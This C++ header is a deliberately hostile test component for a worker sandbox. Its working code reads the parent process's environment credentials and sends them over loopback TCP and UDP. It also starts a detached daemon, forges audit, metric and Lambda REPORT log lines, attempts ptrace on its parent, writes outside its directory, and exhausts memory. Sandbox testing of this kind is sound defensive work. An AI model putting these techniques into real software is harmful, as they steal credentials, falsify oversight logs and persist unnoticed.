// hostile.hpp: a hostile component, for the worker sandbox's tests only
// (compiled into the test variant liblegacy_assessment_hostile.so, never into
// the mock layer). It scores exactly like the mock; and at engine open and on
// every call it first tries what a compromised component would, and prints
// one line to stderr saying what each attempt got:
//
//   * send its parent's environment (the function's credentials, if it can
//     read them) and its own over TCP and UDP to 127.0.0.1 (the ports of the
//     config keys hostile_tcp and hostile_udp);
//   * start a daemon that outlives its worker (fork, setsid, fork: its name
//     is "legacy-daemon");
//   * print lines that would pass for the function's own: an audit line, an
//     EMF document (ItemErrors 1000, what rolls a deployment back) and a
//     Lambda REPORT line, on stdout and on stderr;
//   * write outside its directory (/tmp/legacy-hostile-<pid>), attach to its
//     parent with ptrace, set up io_uring, and allocate (and touch) 1 GiB.
#pragma once

#include <arpa/inet.h>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <netinet/in.h>
#include <string>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

namespace hostile {

inline std::string denied(int error) { return std::string("denied (") + strerror(error) + ")"; }

// What it can read of its parent's environment, and its own.
inline std::string loot() {
  std::string text;
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/environ", static_cast<int>(getppid()));
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd >= 0) {
    char buffer[4096];
    ssize_t n;
    while ((n = read(fd, buffer, sizeof buffer)) > 0 && text.size() < 65536)
      text.append(buffer, static_cast<size_t>(n));
    close(fd);
  }
  for (char **e = environ; e != nullptr && *e != nullptr; e++) {
    text += *e;
    text += '\n';
  }
  return text;
}

inline sockaddr_in loopback(int port) {
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(static_cast<uint16_t>(port));
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  return to;
}

inline std::string send_tcp(int port, const std::string &payload) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return denied(errno);
  sockaddr_in to = loopback(port);
  std::string got;
  if (connect(fd, reinterpret_cast<sockaddr *>(&to), sizeof to) != 0) {
    got = "no connection (" + std::string(strerror(errno)) + ")";
  } else {
    ssize_t n = send(fd, payload.data(), payload.size(), MSG_NOSIGNAL);
    got = n < 0 ? "connected, not sent" : "sent " + std::to_string(n) + " bytes";
  }
  close(fd);
  return got;
}

inline std::string send_udp(int port, const std::string &payload) {
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return denied(errno);
  sockaddr_in to = loopback(port);
  ssize_t n = sendto(fd, payload.data(), payload.size() < 1024 ? payload.size() : 1024, 0,
                     reinterpret_cast<sockaddr *>(&to), sizeof to);
  close(fd);
  return n < 0 ? "not sent (" + std::string(strerror(errno)) + ")" : "sent";
}

// fork, setsid, fork: a grandchild in a session of its own, re-parented to
// init, that would outlive its worker.
inline std::string start_daemon() {
  pid_t child = fork();
  if (child < 0) return denied(errno);
  if (child == 0) {
    setsid();
    if (fork() == 0) {
      prctl(PR_SET_NAME, "legacy-daemon", 0, 0, 0);
      for (;;) pause();
    }
    _exit(0);
  }
  int status = 0;
  waitpid(child, &status, 0);
  return "started";
}

inline void forge_lines() {
  const char *lines[] = {
      "{\"timestamp\":\"2026-12-07T00:00:00.000000Z\",\"level\":\"INFO\",\"request_id\":"
      "\"forged-by-component\",\"caller_kind\":\"iam\",\"audit_key\":\"forged\","
      "\"decision\":\"allowed\",\"message\":\"audit\"}",
      "{\"_aws\":{\"Timestamp\":0,\"CloudWatchMetrics\":[{\"Namespace\":\"AssessmentsResolver\","
      "\"Dimensions\":[[\"FunctionName\",\"ErrorType\"]],\"Metrics\":[{\"Name\":\"ItemErrors\","
      "\"Unit\":\"Count\"}]}]},\"FunctionName\":\"forged-by-component\",\"ErrorType\":"
      "\"InternalError\",\"ItemErrors\":1000}",
      "REPORT RequestId: forged-by-component Duration: 1.00 ms Billed Duration: 1 ms Memory Size: "
      "128 MB Max Memory Used: 4096 MB",
  };
  for (const char *line : lines) {
    fprintf(stdout, "%s\n", line);
    fprintf(stderr, "%s\n", line);
  }
  fflush(stdout);
  fflush(stderr);
}

inline std::string write_outside() {
  std::string path = "/tmp/legacy-hostile-" + std::to_string(getpid());
  int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
  if (fd < 0) return denied(errno);
  bool written = write(fd, "x", 1) == 1;
  close(fd);
  return written ? "written" : "created, not written";
}

inline std::string attach_to_parent() {
  if (ptrace(PTRACE_SEIZE, getppid(), nullptr, nullptr) != 0) return denied(errno);
  return "attached";
}

inline std::string io_uring() {
  unsigned char params[120] = {0};  // struct io_uring_params, zeroed
  long fd = syscall(__NR_io_uring_setup, 1, params);
  if (fd < 0) return denied(errno);
  close(static_cast<int>(fd));
  return "set up";
}

inline std::string allocate_gib() {
  const size_t size = size_t(1) << 30;
  char *memory = static_cast<char *>(std::malloc(size));
  if (memory == nullptr) return "refused (" + std::string(strerror(errno)) + ")";
  for (size_t i = 0; i < size; i += 4096) memory[i] = 1;  // resident, page by page
  std::free(memory);
  return "allocated";
}

// Every attempt, and one line to stderr saying what each got (`when`: open or call).
inline void attempt(const char *when, int tcp_port, int udp_port) {
  std::string payload = loot();
  std::string tcp = tcp_port > 0 ? send_tcp(tcp_port, payload) : "no port";
  std::string udp = udp_port > 0 ? send_udp(udp_port, payload) : "no port";
  std::string daemon = start_daemon();
  forge_lines();
  fprintf(stderr,
          "legacy hostile component (%s): tcp: %s; udp: %s; daemon: %s; write outside its "
          "directory: %s; ptrace parent: %s; io_uring: %s; allocate 1 GiB: %s\n",
          when, tcp.c_str(), udp.c_str(), daemon.c_str(), write_outside().c_str(),
          attach_to_parent().c_str(), io_uring().c_str(), allocate_gib().c_str());
  fflush(stderr);
}

}  // namespace hostile
